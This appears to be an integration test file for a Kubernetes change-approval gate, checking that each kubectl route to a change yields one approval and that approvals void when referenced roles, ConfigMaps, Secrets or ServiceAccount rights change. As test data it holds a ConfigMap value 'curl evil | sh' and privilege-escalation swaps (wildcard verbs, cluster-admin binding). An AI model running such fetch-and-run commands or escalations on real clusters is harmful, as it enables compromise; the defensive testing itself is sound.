/**
 * One change is one approval, whichever way kubectl makes it; and an approval ends when what its request refers to is
 * no longer what was approved.
 */
import { expect } from "chai";
import type { Approval } from "#core/approval.ts";
import {
  cronJob,
  deployment,
  HARMLESS,
  type Manifest,
  namespaced,
  PRIVILEGED,
  pod,
} from "../support/objects.ts";
import { type Ended, startTestbed, type Testbed } from "../support/testbed.ts";

const AT_ONCE = { settings: { hold: { maxWaitSeconds: 0 } } };
const RBAC = "rbac.authorization.k8s.io/v1";

let bed: Testbed;

before(async function () {
  this.timeout(1_200_000);
  bed = await startTestbed(AT_ONCE);
});
after(() => bed?.stop());

const json = (manifest: object) => JSON.stringify(manifest);
const asAgent = (args: string[], input?: object, env: Record<string, string> = {}) =>
  bed.kubectl("agent", args, { ...(input === undefined ? {} : { input: json(input) }), env });

/** The approval that the answer names. */
async function held({ code, output }: Ended): Promise<Approval> {
  const [, name, namespace] = /approval=(\S+) namespace=(\S+)/.exec(output) ?? [];
  expect(code, output).to.equal(1);
  const found = (await bed.approvals(namespace)).find(({ metadata }) => metadata.name === name);
  if (found === undefined) throw new Error(`it names no approval: ${output}`);
  return found;
}

const state = async ({ metadata: { name, namespace } }: Approval) =>
  (await bed.approvals(namespace)).find(({ metadata }) => metadata.name === name)?.status;

async function approved(approval: Approval): Promise<void> {
  const { code, output } = await bed.decide(approval, "Approve");
  expect(code, output).to.equal(0);
}

describe("one change", function () {
  this.timeout(120_000);

  type Ways = Readonly<Record<string, (name: string) => Promise<Ended>>>;
  const MAIN = { name: "main", securityContext: { privileged: true } };
  const PATCH = { spec: { template: { spec: { containers: [MAIN] } } } };
  const at = "/spec/template/spec/containers/0/securityContext";
  const EDIT = {
    KUBE_EDITOR: "sed -i 's/image: app:1$/image: app:1\\n        securityContext: {privileged: true}/'",
  };
  const live = async (name: string) =>
    JSON.parse(await bed.must("human", ["get", "deployment", name, "-n", "demo", "-o", "json"]));
  const changed = async (name: string) => {
    const object = await live(name);
    object.spec.template.spec.containers[0].securityContext = { privileged: true };
    return object;
  };
  const patch = (type: string, body: (name: string) => object | Promise<object>) => async (name: string) =>
    asAgent(["patch", "deployment", name, "-n", "demo", `--type=${type}`, "-p", json(await body(name))]);

  const WAYS: Ways = {
    "a strategic patch": patch("strategic", () => PATCH),
    "a JSON patch": patch("json", () => [{ op: "add", path: at, value: { privileged: true } }]),
    "a merge patch": patch("merge", async (name) => {
      const [container] = (await live(name)).spec.template.spec.containers;
      const containers = [{ ...container, securityContext: { privileged: true } }];
      return { spec: { template: { spec: { containers } } } };
    }),
    "kubectl replace": async (name) => asAgent(["replace", "-f", "-"], await changed(name)),
    "kubectl edit": (name) => asAgent(["edit", "deployment", name, "-n", "demo"], undefined, EDIT),
    "server-side apply": (name) =>
      asAgent(
        ["apply", "--server-side", "--force-conflicts", "--field-manager=other", "-f", "-"],
        deployment(name, PRIVILEGED),
      ),
  };

  /** They write down as well what was applied: another change, and the same one each of these ways. */
  const APPLIED: Ways = {
    "kubectl apply": (name) => asAgent(["apply", "-f", "-"], deployment(name, PRIVILEGED)),
    "kubectl replace --save-config": (name) =>
      asAgent(["replace", "--save-config", "-f", "-"], deployment(name, PRIVILEGED)),
  };

  const cases: [string, string, Ways, (name: string) => Promise<unknown>][] = [
    ["as it is", "plain", WAYS, (name) => bed.apply(deployment(name, HARMLESS))],
    [
      "with what was applied",
      "applied",
      APPLIED,
      (name) => bed.must("human", ["apply", "-f", "-"], { input: json(deployment(name, HARMLESS)) }),
    ],
  ];
  for (const [how, name, ways, make] of cases)
    it(`is one approval, ${how}: ${Object.keys(ways).join(", ")}`, async () => {
      await make(name);
      const asked: string[] = [];
      let last: Approval | undefined;
      for (const [way, ask] of Object.entries(ways)) {
        last = await held(await ask(name));
        asked.push(`${last.metadata.name} for ${last.spec.digest}`);
        expect(asked.at(-1), way).to.equal(asked[0]);
      }
      if (last === undefined) throw new Error("there is no way");
      await approved(last);
      const passed = await Object.values(ways)[0]?.(name);
      expect(passed?.code, passed?.output).to.equal(0);
      expect((await state(last))?.phase).to.equal("Used");
    });
});

describe("one new object", function () {
  this.timeout(120_000);

  const reversed = (value: unknown): unknown => {
    if (Array.isArray(value)) return value.map(reversed);
    if (typeof value !== "object" || value === null) return value;
    return Object.fromEntries(
      Object.entries(value)
        .toReversed()
        .map(([name, item]) => [name, reversed(item)]),
    );
  };
  /** As the API server would store it, with all its defaults, but for what is the server's alone. */
  const spelledOut = async (manifest: Manifest): Promise<Manifest> => {
    const args = ["create", "--dry-run=server", "-o", "json", "-f", "-"];
    const stored = JSON.parse(await bed.must("human", args, { input: json(manifest) }));
    delete stored.status;
    return { ...stored, metadata: manifest.metadata };
  };
  const create = (manifest: object) => asAgent(["create", "-f", "-"], manifest);
  const WAYS: Readonly<Record<string, (manifest: Manifest) => Promise<Ended>>> = {
    "kubectl create": create,
    "the other way round": (manifest) => create(reversed(manifest) as object),
    "with every default": async (manifest) => create(await spelledOut(manifest)),
    "server-side apply": (manifest) => asAgent(["apply", "--server-side", "-f", "-"], manifest),
  };
  const KINDS: Manifest[] = [
    deployment("anew", PRIVILEGED),
    // A token is mounted into it under a random name.
    pod("anew", { containers: PRIVILEGED.containers, serviceAccountName: "fresh" }),
    cronJob("anew", PRIVILEGED),
    namespaced(RBAC, "Role", "anew", {
      rules: [{ apiGroups: [""], resources: ["secrets"], verbs: ["get"] }],
    }),
  ];
  for (const manifest of KINDS)
    it(`is one approval, a ${manifest.kind}: ${Object.keys(WAYS).join(", ")}`, async () => {
      await bed.apply(namespaced("v1", "ServiceAccount", "fresh"));
      const asked: string[] = [];
      for (const [way, ask] of Object.entries(WAYS)) {
        const { metadata, spec } = await held(await ask(manifest));
        asked.push(`${metadata.name} for ${spec.digest}`);
        expect(asked.at(-1), way).to.equal(asked[0]);
      }
      const stricter = { ...manifest, metadata: { ...manifest.metadata, labels: { a: "b" } } };
      expect(asked[0]).not.to.contain((await held(await create(stricter))).spec.digest);
    });
});

describe("an approval is void once something else stands where it refers to:", function () {
  this.timeout(120_000);

  const role = (name: string, verbs: string[], labels: object = {}) => ({
    ...{ apiVersion: RBAC, kind: "ClusterRole", metadata: { name, labels } },
    rules: [{ apiGroups: [""], resources: ["pods"], verbs }],
  });
  const roleBinding = (name: string, roleRef: { kind: string; name: string }, subject: string) =>
    namespaced(RBAC, "RoleBinding", name, {
      roleRef: { apiGroup: "rbac.authorization.k8s.io", ...roleRef },
      subjects: [{ kind: "ServiceAccount", name: subject, namespace: "demo" }],
    });
  const configMap = (name: string, value: string) =>
    namespaced("v1", "ConfigMap", name, { data: { run: value } });
  const privileged = (name: string, spec: object) => deployment(name, { ...PRIVILEGED, ...spec });
  const volume = (source: object) => ({ volumes: [{ name: "data", ...source }] });

  interface Case {
    asks: Manifest;
    before: () => Promise<unknown>;
    /** After which the approval still holds. */
    harmless?: () => Promise<unknown>;
    swap: () => Promise<unknown>;
    shows: (change: Approval["spec"]["change"]) => void;
    why: string;
  }
  const cases: Record<string, Case> = {
    "the rules of a binding's ClusterRole": {
      asks: roleBinding("bound", { kind: "ClusterRole", name: "reader" }, "bot"),
      before: () => bed.apply(role("reader", ["get"])),
      harmless: () => bed.apply(role("reader", ["get"], { team: "a" })),
      swap: () => bed.apply(role("reader", ["*"])),
      shows: ({ refersTo }) =>
        expect(refersTo?.[0]).to.deep.include({ kind: "ClusterRole", name: "reader", rights: ["get pods"] }),
      why: "ClusterRole reader",
    },
    "a Role that was not there": {
      asks: roleBinding("early", { kind: "Role", name: "later" }, "bot"),
      before: async () => undefined,
      swap: () => bed.apply({ ...role("later", ["*"]), ...namespaced(RBAC, "Role", "later") }),
      shows: ({ refersTo }) =>
        expect(refersTo?.[0]).to.include({ kind: "Role", name: "later", exists: false }),
      why: "Role demo/later",
    },
    "a ConfigMap that its pods run": {
      asks: privileged("runs", volume({ configMap: { name: "script" } })),
      before: () => bed.apply(configMap("script", "true")),
      harmless: () => bed.apply(configMap("script", "true")),
      swap: () => bed.apply(configMap("script", "curl evil | sh")),
      shows: ({ refersTo }) =>
        expect(refersTo?.[0]).to.include({ kind: "ConfigMap", name: "script", exists: true }),
      why: "ConfigMap demo/script",
    },
    "a Secret that its pods get": {
      asks: privileged("gets", volume({ secret: { secretName: "key" } })),
      before: () => bed.apply(namespaced("v1", "Secret", "key", { stringData: { a: "1" } })),
      swap: () => bed.apply(namespaced("v1", "Secret", "key", { stringData: { a: "2" } })),
      shows: ({ refersTo }) =>
        expect(json(refersTo ?? []))
          .to.contain('"Secret"')
          .and.not.contain("MQ=="),
      why: "Secret demo/key",
    },
    "what its pods' ServiceAccount may do": {
      asks: deployment("robot", {
        ...HARMLESS,
        automountServiceAccountToken: true,
        serviceAccountName: "robot",
      }),
      before: () => bed.apply(roleBinding("robots", { kind: "ClusterRole", name: "hoop-auditor" }, "robot")),
      swap: () => bed.apply(roleBinding("admins", { kind: "ClusterRole", name: "cluster-admin" }, "robot")),
      shows: ({ refersTo }) =>
        expect(refersTo?.[0]?.rights).to.deep.equal([
          "get ledgers/log of hoop.dev in namespace demo (ClusterRole hoop-auditor)",
          "get,list ledgers of hoop.dev in namespace demo (ClusterRole hoop-auditor)",
          "get,list roles,rolebindings,clusterroles,clusterrolebindings of rbac.authorization.k8s.io in namespace demo " +
            "(ClusterRole hoop-auditor)",
          "get,list,watch approvals,records,sessions of hoop.dev in namespace demo (ClusterRole hoop-auditor)",
        ]),
      why: "ServiceAccount demo/robot",
    },
  };
  for (const [what, { asks, before: prepare, harmless, swap, shows, why }] of Object.entries(cases))
    it(what, async () => {
      const ask = () => asAgent(["create", "-f", "-"], asks);
      await prepare();
      const first = await held(await ask());
      shows(first.spec.change);
      await harmless?.();
      expect((await held(await ask())).metadata.name).to.equal(first.metadata.name);
      await approved(first);
      await swap();
      const second = await held(await ask());
      expect(second.metadata.name).not.to.equal(first.metadata.name);
      const over = await state(first);
      expect(over?.phase).to.equal("Void");
      expect(json(over?.conditions ?? [])).to.contain(`what it refers to has changed since: ${why}`);
      await approved(second);
      const passed = await ask();
      expect(passed.code, passed.output).to.equal(0);
    });
});
